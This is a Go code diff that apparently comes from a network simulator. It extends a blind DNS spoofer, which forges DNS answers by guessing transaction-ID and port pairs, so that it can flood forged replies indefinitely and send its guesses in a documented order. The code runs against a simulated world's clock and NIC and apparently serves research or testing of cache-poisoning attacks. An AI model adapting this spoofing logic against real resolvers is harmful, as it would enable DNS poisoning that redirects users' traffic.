@@ -41,9 +41,11 @@ type BlindSpoofConfig struct {
 	// FirstPort means 53000 (a fixed-port resolver's), zero Ports means 1.
 	FirstPort uint16
 	Ports     int
-	// Rounds is how many times the whole guess space is sent (zero means
-	// 1), Interval the pause between rounds on the World's clock (zero
-	// means one millisecond).
+	// Rounds is how many times the whole guess space is sent: zero means
+	// 1, negative means until Run's context ends (an attacker flooding
+	// for as long as the victim may be asking). Interval is the pause
+	// between rounds on the World's clock (zero means one millisecond):
+	// it paces the flood, it does not time it against the victim's query.
 	Rounds   int
 	Interval time.Duration
 }
@@ -91,7 +93,9 @@ func NewBlindSpoofer(cfg BlindSpoofConfig) (*BlindSpoofer, error) {
 		cfg.FirstPort = 53000
 	}
 	cfg.Ports = max(cfg.Ports, 1)
-	cfg.Rounds = max(cfg.Rounds, 1)
+	if cfg.Rounds == 0 {
+		cfg.Rounds = 1
+	}
 	if cfg.Interval <= 0 {
 		cfg.Interval = time.Millisecond
 	}
@@ -114,8 +118,10 @@ func NewBlindSpoofer(cfg BlindSpoofConfig) (*BlindSpoofer, error) {
 func (b *BlindSpoofer) GuessSpace() int { return b.cfg.TXIDs * b.cfg.Ports }
 
 // Run learns NextHop's MAC by ARP, then sends Rounds rounds of forged
-// answers, one per guessed (ID, port) pair, Interval apart. It returns
-// when done or when ctx ends (with its cause).
+// answers, one per guessed (ID, port) pair, Interval apart, the IDs in
+// order from FirstTXID within each port (so any GuessSpace consecutive
+// answers cover every guess). It returns when done or when ctx ends (with
+// its cause; with negative Rounds it only returns then).
 func (b *BlindSpoofer) Run(ctx context.Context) error {
 	macs, err := resolveMACs(ctx, b.cfg.NIC, []netip.Addr{b.cfg.NextHop})
 	if err != nil {
@@ -124,7 +130,7 @@ func (b *BlindSpoofer) Run(ctx context.Context) error {
 	dstMAC, srcMAC := macs[b.cfg.NextHop], b.cfg.NIC.MAC()
 	clock := b.cfg.NIC.Host().World().Clock()
 	wire := append([]byte(nil), b.wire...)
-	for round := range b.cfg.Rounds {
+	for round := 0; b.cfg.Rounds < 0 || round < b.cfg.Rounds; round++ {
 		if round > 0 {
 			if err := sleep(ctx, clock, b.cfg.Interval); err != nil {
 				return err
